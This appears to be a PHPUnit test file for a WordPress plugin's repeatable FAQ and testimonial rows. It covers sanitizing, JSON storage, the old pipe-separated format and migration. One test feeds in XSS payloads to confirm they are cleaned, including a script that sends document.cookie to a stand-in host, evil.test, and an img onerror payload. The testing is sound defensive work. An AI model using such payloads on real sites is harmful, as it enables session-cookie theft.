<?php
/**
 * Repeatable rows (includes/rows.php): what an editor types comes back exactly as saved, cleaned;
 * the "a | b" lines of plugin 1.4.0 and earlier are read as before and brought over unchanged.
 *
 * @package GdmConcreteContent
 */

defined( 'ABSPATH' ) || exit;

/**
 * Rows saved, read, checked and migrated, with the real field definitions of fields.json.
 */
final class Rows_Test extends GDM_Concrete_Test_Case {

	/**
	 * An answer with a "|" and line breaks, the text the old "a | b" lines could not hold, is answered
	 * to the site exactly as typed (line breaks as LF).
	 */
	public function test_a_row_with_a_pipe_and_line_breaks_round_trips() {
		$faqs   = $this->field( 'service', 'faqs' );
		$stored = gdm_concrete_sanitize_field(
			$faqs,
			array(
				array(
					'question' => 'Stamped or plain | which costs less?',
					'answer'   => "Plain, by about a third.\r\nStamped | colored costs more.",
				),
				array(
					'question' => 'How long before I can drive on it?',
					'answer'   => 'Seven days.',
				),
			)
		);

		$this->assertSame(
			array(
				array(
					'question' => 'Stamped or plain | which costs less?',
					'answer'   => "Plain, by about a third.\nStamped | colored costs more.",
				),
				array(
					'question' => 'How long before I can drive on it?',
					'answer'   => 'Seven days.',
				),
			),
			gdm_concrete_rest_value( $faqs, $stored )
		);
		// Saved again as read (the edit screen posts the JSON back): nothing changes.
		$this->assertSame( $stored, gdm_concrete_sanitize_field( $faqs, $stored ) );
	}

	/**
	 * A value still in the old lines (a site part-way through its upgrade) is read as 1.4.0 read it:
	 * one row a line, cells trimmed, blank lines skipped, missing cells empty.
	 */
	public function test_old_lines_are_read_as_before() {
		$this->assertSame(
			array(
				array(
					'question' => 'Do you pull permits?',
					'answer'   => 'Yes, always.',
				),
				array(
					'question' => 'Do you seal it?',
					'answer'   => '',
				),
			),
			gdm_concrete_rest_value( $this->field( 'service', 'faqs' ), "  Do you pull permits? |Yes, always.  \r\n\r\n\nDo you seal it?\n" )
		);
	}

	/**
	 * A hostile value is cleaned: no tag or script reaches the site, a one-line column stays one line,
	 * a text area keeps its lines.
	 */
	public function test_hostile_cells_are_cleaned() {
		$rows = gdm_concrete_clean_rows(
			$this->field( 'location', 'testimonials' ),
			array(
				array(
					'content'  => "<script>fetch('https://evil.test/?c='+document.cookie)</script>Great crew.\r\n<img src=x onerror=alert(1)>On time.",
					'author'   => "Dana <b>K.</b>\nAnkeny",
					'location' => '%3Cscript%3EBeaverdale',
					'rating'   => array( '5' ),
					'admin'    => 'an extra column',
				),
			)
		);

		$this->assertSame(
			array(
				array(
					'content'  => "Great crew.\nOn time.",
					'author'   => 'Dana K. Ankeny',
					'location' => 'scriptBeaverdale',
					'rating'   => '',
				),
			),
			$rows
		);
	}

	/**
	 * Rows left empty are dropped, a missing column is empty, and no rows at all store nothing (the
	 * field is deleted rather than kept as "[]").
	 */
	public function test_empty_rows_are_dropped() {
		$faqs = $this->field( 'service', 'faqs' );
		$this->assertSame(
			array(
				array(
					'question' => 'Is winter too cold to pour?',
					'answer'   => '',
				),
			),
			gdm_concrete_clean_rows(
				$faqs,
				array(
					array(
						'question' => ' ',
						'answer'   => "\n",
					),
					'not a row',
					array( 'question' => 'Is winter too cold to pour?' ),
				)
			)
		);
		$this->assertSame( '', gdm_concrete_sanitize_field( $faqs, array() ) );
		$this->assertSame( '', gdm_concrete_sanitize_field( $faqs, "\n \n" ) );
	}

	/**
	 * Stored JSON is read with exactly the field's columns, each a string, whatever else it holds.
	 */
	public function test_stored_json_is_read_with_the_fields_columns() {
		$this->assertSame(
			array(
				array(
					'question' => '12',
					'answer'   => '',
				),
			),
			gdm_concrete_rows( '[{"question":12,"answer":["a"],"other":"x"},"not a row"]', $this->field( 'service', 'faqs' ) )
		);
	}

	/**
	 * What the editor is told after saving: a required cell left empty and stars out of range, each
	 * naming the row; a good row says nothing.
	 */
	public function test_row_problems_name_the_row_and_column() {
		$testimonials = $this->field( 'location', 'testimonials' );
		$rows         = array(
			array(
				'content'  => 'Great crew.',
				'author'   => 'Dana',
				'location' => '',
				'rating'   => '5',
			),
			array(
				'content'  => 'Fast.',
				'author'   => '',
				'location' => '',
				'rating'   => '9',
			),
		);

		$this->assertSame(
			array( 'Testimonial 2 has no name.', 'Stars in testimonial 2 must be 1 to 5.' ),
			gdm_concrete_row_problems( $testimonials, $rows )
		);
	}

	/**
	 * Plugin 1.5.0's upgrade: every post's old lines become JSON holding the same rows, so the site
	 * reads the same content before and after; JSON and empty values, and fields that are not rows,
	 * are left alone; a second run changes nothing.
	 */
	public function test_migration_keeps_every_row() {
		$faqs = $this->field( 'service', 'faqs' );
		GDM_Test_WordPress::add_post(
			array(
				'ID'        => 10,
				'post_type' => 'service',
				'post_name' => 'driveways',
			)
		);
		GDM_Test_WordPress::add_post(
			array(
				'ID'        => 11,
				'post_type' => 'service',
				'post_name' => 'patios',
			)
		);
		GDM_Test_WordPress::add_post(
			array(
				'ID'        => 20,
				'post_type' => 'location',
				'post_name' => 'ankeny',
			)
		);
		$old_lines    = "Do you pull permits? | Yes, always.\nHow thick? | Four inches | five for trucks\n\nSealed? |";
		$lines_id     = GDM_Test_WordPress::add_meta( 10, '_gdm_faqs', $old_lines );
		$json         = '[{"question":"Already JSON | kept","answer":"Yes"}]';
		$json_id      = GDM_Test_WordPress::add_meta( 11, '_gdm_faqs', $json );
		$blank_id     = GDM_Test_WordPress::add_meta( 11, '_gdm_benefits', " \n" );
		$town_id      = GDM_Test_WordPress::add_meta( 20, '_gdm_testimonials', 'Great crew. | Dana | Beaverdale | 5' );
		$keywords_id  = GDM_Test_WordPress::add_meta( 10, '_gdm_keywords', 'driveway | Des Moines' );
		$before_lines = gdm_concrete_rest_value( $faqs, $old_lines );

		$this->assertSame( 2, gdm_concrete_migrate_rows() );

		$migrated = GDM_Test_WordPress::$meta[ $lines_id ]['meta_value'];
		$this->assertSame(
			'[{"question":"Do you pull permits?","answer":"Yes, always."},{"question":"How thick?","answer":"Four inches"},{"question":"Sealed?","answer":""}]',
			$migrated
		);
		$this->assertSame( $before_lines, gdm_concrete_rest_value( $faqs, $migrated ), 'the site reads the same rows after the upgrade' );
		$this->assertSame(
			array(
				array(
					'content'  => 'Great crew.',
					'author'   => 'Dana',
					'location' => 'Beaverdale',
					'rating'   => '5',
				),
			),
			gdm_concrete_rows( GDM_Test_WordPress::$meta[ $town_id ]['meta_value'], $this->field( 'location', 'testimonials' ) )
		);
		$this->assertSame( $json, GDM_Test_WordPress::$meta[ $json_id ]['meta_value'] );
		$this->assertSame( " \n", GDM_Test_WordPress::$meta[ $blank_id ]['meta_value'] );
		$this->assertSame( 'driveway | Des Moines', GDM_Test_WordPress::$meta[ $keywords_id ]['meta_value'] );
		$this->assertSame( array( 10, 20 ), GDM_Test_WordPress::$cache_deleted, 'the migrated posts are read afresh' );

		$this->assertSame( 0, gdm_concrete_migrate_rows(), 'a second run finds nothing to bring over' );
	}
}
